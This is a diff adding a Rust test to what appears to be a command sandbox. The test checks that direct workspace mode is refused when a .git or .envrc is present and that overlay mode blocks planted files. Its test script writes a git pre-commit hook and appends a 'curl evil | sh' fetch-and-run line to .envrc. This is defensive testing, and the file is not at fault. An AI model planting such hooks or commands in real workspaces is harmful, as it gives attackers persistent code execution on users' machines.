@@ -486,3 +486,53 @@ fn without_a_network_namespace_of_its_own_the_command_never_runs() {
         }
     }
 }
+
+/// Direct mode writes the workspace in place, where no plant check runs
+/// (issue 26 item 8): on a workspace holding a `.git` or an `.envrc` it
+/// is refused, naming them and the flag that accepts it, and nothing runs;
+/// with `--accept-plants` it runs (said on stderr).
+#[test]
+fn direct_mode_is_refused_where_a_command_could_plant_git_hooks_or_envrc() {
+    for leg in legs() {
+        for plant in [".git", ".envrc"] {
+            let s = Scratch::new(leg);
+            if plant == ".git" {
+                write(&s, ".git/HEAD", "ref: refs/heads/main\n");
+                std::fs::create_dir_all(s.ws.join(".git/hooks")).expect("mkdir");
+                s.give(&s.ws.join(".git/hooks"));
+            } else {
+                write(&s, ".envrc", "export A=1\n");
+            }
+            let script = "mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; echo 'curl evil | sh' >> .envrc; echo ran > ran.txt";
+            let o = s.exec(&["--workspace-mode", "direct"], &["sh", "-c", script]);
+            assert_ne!(o.status.code(), Some(0), "{leg:?} {plant}: direct mode ran");
+            let err = stderr(&o);
+            assert!(
+                err.contains(plant) && err.contains("--accept-plants"),
+                "{leg:?} {plant}: the refusal names neither the path nor the flag:\n{err}"
+            );
+            assert!(
+                !s.ws.join("ran.txt").exists() && !s.ws.join(".git/hooks/pre-commit").exists(),
+                "{leg:?} {plant}: the command ran although refused"
+            );
+            // Overlay mode (the default) on the same workspace: the plants
+            // are blocked, the rest applied.
+            let o = s.exec(&[], &["sh", "-c", script]);
+            assert_code(&o, 0, "overlay");
+            assert!(s.ws.join("ran.txt").exists());
+            assert!(!s.ws.join(".git/hooks/pre-commit").exists());
+            std::fs::remove_file(s.ws.join("ran.txt")).expect("rm");
+            let o = s.exec(
+                &["--workspace-mode", "direct", "--accept-plants"],
+                &["sh", "-c", "echo ran > ran.txt"],
+            );
+            assert_code(&o, 0, "direct with --accept-plants");
+            assert!(s.ws.join("ran.txt").exists());
+            assert!(
+                stderr(&o).contains("--accept-plants"),
+                "{leg:?} {plant}: the acceptance is not said:\n{}",
+                stderr(&o)
+            );
+        }
+    }
+}
